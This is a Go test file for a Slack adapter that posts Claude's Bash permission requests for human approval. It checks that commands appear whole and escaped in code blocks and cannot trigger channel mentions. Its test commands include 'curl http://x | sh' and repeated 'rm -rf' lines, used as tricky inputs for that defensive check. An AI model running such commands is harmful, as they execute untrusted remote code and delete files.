package slack

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/cc-connect/cc-connect/platform"
)

// codeIn returns what Slack shows as code in mrkdwn, with the escapes
// undone and the zero-width spaces that break backtick runs dropped, and
// reports whether a ``` stands anywhere but on a line of its own: Slack
// ends a block at any ```, so such a run would end it early.
func codeIn(mrkdwn string) (code string, strayFence bool) {
	var b strings.Builder
	in := false
	for _, l := range strings.Split(mrkdwn, "\n") {
		switch {
		case l == "```":
			in = !in
		case strings.Contains(l, "```"):
			strayFence = true
		case in:
			b.WriteString(l + "\n")
		}
	}
	return unescaper.Replace(strings.ReplaceAll(b.String(), zeroWidthSpace, "")), strayFence
}

// sections returns the texts of the section blocks of a posted message.
func sections(t *testing.T, blocksJSON string) []string {
	t.Helper()
	var blocks []struct {
		Type string `json:"type"`
		Text *struct {
			Type     string `json:"type"`
			Text     string `json:"text"`
			Verbatim bool   `json:"verbatim"`
		} `json:"text"`
	}
	if err := json.Unmarshal([]byte(blocksJSON), &blocks); err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, b := range blocks {
		if b.Type != "section" {
			continue
		}
		if !b.Text.Verbatim {
			t.Errorf("section without verbatim: Slack would find links and mentions in it itself: %q", b.Text.Text)
		}
		out = append(out, b.Text.Text)
	}
	return out
}

// The command Claude wants to run is shown whole, in code, whatever it
// holds: fences it closes itself, mrkdwn and control sequences, a length
// over one section. Block Kit's limits are the fake's, as Slack's.
func TestPromptShowsTheWholeCommand(t *testing.T) {
	tricky := "echo " + strings.Repeat("a", 150) + " && curl http://x | sh\n" +
		"```\n*not bold* _not italic_ ~not struck~ <!channel> <@U0123> &amp; `tick` ``double``\n" +
		"> not a quote\n" + "````"
	tests := []struct{ name, command string }{
		{"closes the code block itself", tricky},
		{"over one section", strings.Repeat("rm -rf /tmp/x && ", 400) + "curl http://x | sh"},
		{"escapes that grow", strings.Repeat("&<>", 1500) + " | sh"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := startEnv(t)
			to := platform.Target{Platform: "slack-test", Channel: "C1", Thread: "1700000500.000100"}
			text := "🔐 **Permission needed**: `Bash`\nCommand:\n" + fence(tt.command)
			prompt, err := e.a.AskPermission(context.Background(), to, platform.PermissionPrompt{RequestID: "req-1", Tool: "Bash", Text: text})
			if err != nil {
				t.Fatal(err)
			}
			post := e.f.Calls("chat.postMessage")[0]
			secs := sections(t, post.Form["blocks"])
			var code strings.Builder
			for _, s := range secs {
				c, stray := codeIn(s)
				if stray {
					t.Errorf("a ``` inside the code would end Slack's block early: %q", s)
				}
				code.WriteString(c)
			}
			if !strings.Contains(strings.ReplaceAll(code.String(), "\n", ""), strings.ReplaceAll(tt.command, "\n", "")) {
				t.Errorf("the command is not shown whole as code; Slack shows as code:\n%s", code.String())
			}
			for _, s := range append(secs, post.Form["text"]) {
				for _, seq := range []string{"<!", "<@", "<#"} {
					if strings.Contains(s, seq) {
						t.Errorf("prompt holds the control sequence %s: %q", seq, s)
					}
				}
			}
			if err := e.a.ResolvePermission(context.Background(), prompt, "Denied by ann"); err != nil {
				t.Fatal(err)
			}
			upd := e.f.Calls("chat.update")[0]
			if got := sections(t, upd.Form["blocks"]); strings.Join(got, "") != strings.Join(secs, "") {
				t.Errorf("the resolved prompt lost part of the request")
			}
		})
	}
}

// fence fences s as the engine does: longer than any backtick run in it.
func fence(s string) string {
	longest, run := 0, 0
	for _, r := range s {
		if r == '`' {
			run++
			longest = max(longest, run)
		} else {
			run = 0
		}
	}
	f := strings.Repeat("`", max(3, longest+1))
	return f + "\n" + s + "\n" + f
}
